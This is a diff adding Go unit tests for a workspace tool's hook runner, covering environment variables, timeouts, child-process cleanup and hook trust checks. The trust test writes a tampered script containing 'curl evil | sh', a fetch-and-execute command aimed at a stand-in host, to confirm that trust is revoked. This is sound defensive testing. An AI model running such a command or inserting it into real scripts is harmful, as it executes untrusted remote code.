@@ -0,0 +1,109 @@
+package hook
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/jakobsen/icw/internal/component"
+)
+
+func TestRunEnvironment(t *testing.T) {
+	dir := t.TempDir()
+	comp := &component.Component{Name: "setup/analog", Path: "setup/analog", Type: component.TypeSetup, Branch: "trunk"}
+
+	h := component.Hook{
+		Event:   component.HookPostUpdate,
+		Command: `echo "$ICW_ROOT $ICW_COMPONENT $ICW_BRANCH $ICW_TYPE" > env.txt`,
+		Source:  "workspace.config",
+	}
+
+	if err := Run(h, dir, Environment("/ws", comp), time.Minute); err != nil {
+		t.Fatalf("Run failed: %v", err)
+	}
+
+	content, err := os.ReadFile(filepath.Join(dir, "env.txt"))
+	if err != nil {
+		t.Fatalf("Hook did not run in component directory: %v", err)
+	}
+	if strings.TrimSpace(string(content)) != "/ws setup/analog trunk setup" {
+		t.Errorf("Unexpected hook environment: %s", content)
+	}
+}
+
+func TestRunTimeout(t *testing.T) {
+	h := component.Hook{Event: component.HookPostUpdate, Command: "exec sleep 5"}
+
+	err := Run(h, t.TempDir(), nil, 100*time.Millisecond)
+	if err == nil || !strings.Contains(err.Error(), "timed out") {
+		t.Errorf("Expected timeout error, got %v", err)
+	}
+}
+
+func TestRunTimeoutKillsChildren(t *testing.T) {
+	dir := t.TempDir()
+
+	// The child is not exec'd, so sh stays its parent; it records its pid
+	// and would write a marker if it survived the timeout
+	h := component.Hook{Event: component.HookPostUpdate, Command: `sh -c 'echo $$ > child.pid; sleep 1; touch survived'; true`}
+
+	start := time.Now()
+	err := Run(h, dir, nil, 300*time.Millisecond)
+	if err == nil || !strings.Contains(err.Error(), "timed out") {
+		t.Fatalf("Expected timeout error, got %v", err)
+	}
+	if elapsed := time.Since(start); elapsed > 900*time.Millisecond {
+		t.Errorf("Run returned after %s, expected it to stop at the timeout", elapsed)
+	}
+
+	time.Sleep(1500 * time.Millisecond)
+	if _, err := os.Stat(filepath.Join(dir, "survived")); err == nil {
+		t.Error("Child process of the hook kept running after the timeout")
+	}
+}
+
+func TestRunFailure(t *testing.T) {
+	h := component.Hook{Event: component.HookPostUpdate, Command: "exit 3"}
+
+	if err := Run(h, t.TempDir(), nil, time.Minute); err == nil {
+		t.Error("Expected error from failing hook")
+	}
+}
+
+func TestTrust(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	dir := t.TempDir()
+	os.WriteFile(filepath.Join(dir, "gen.sh"), []byte("#!/bin/sh\nmake gen\n"), 0755)
+
+	h := component.Hook{Event: component.HookPostUpdate, Command: "./gen.sh", Source: "digital/top"}
+	if IsTrusted(h, dir) {
+		t.Fatal("Hook should not be trusted before Trust")
+	}
+
+	if err := Trust(h, dir); err != nil {
+		t.Fatalf("Trust failed: %v", err)
+	}
+	if !IsTrusted(h, dir) {
+		t.Error("Hook should be trusted after Trust")
+	}
+
+	// A changed command must be trusted again
+	changed := h
+	changed.Command = "./gen.sh --all"
+	if IsTrusted(changed, dir) {
+		t.Error("Changed hook should not be trusted")
+	}
+
+	// So must a changed script
+	os.WriteFile(filepath.Join(dir, "gen.sh"), []byte("#!/bin/sh\ncurl evil | sh\n"), 0755)
+	if IsTrusted(h, dir) {
+		t.Error("Hook with a changed script should not be trusted")
+	}
+
+	// Workspace hooks are always trusted
+	if !IsTrusted(component.Hook{Command: "./setup", Source: "workspace.config"}, dir) {
+		t.Error("workspace.config hooks should be trusted")
+	}
+}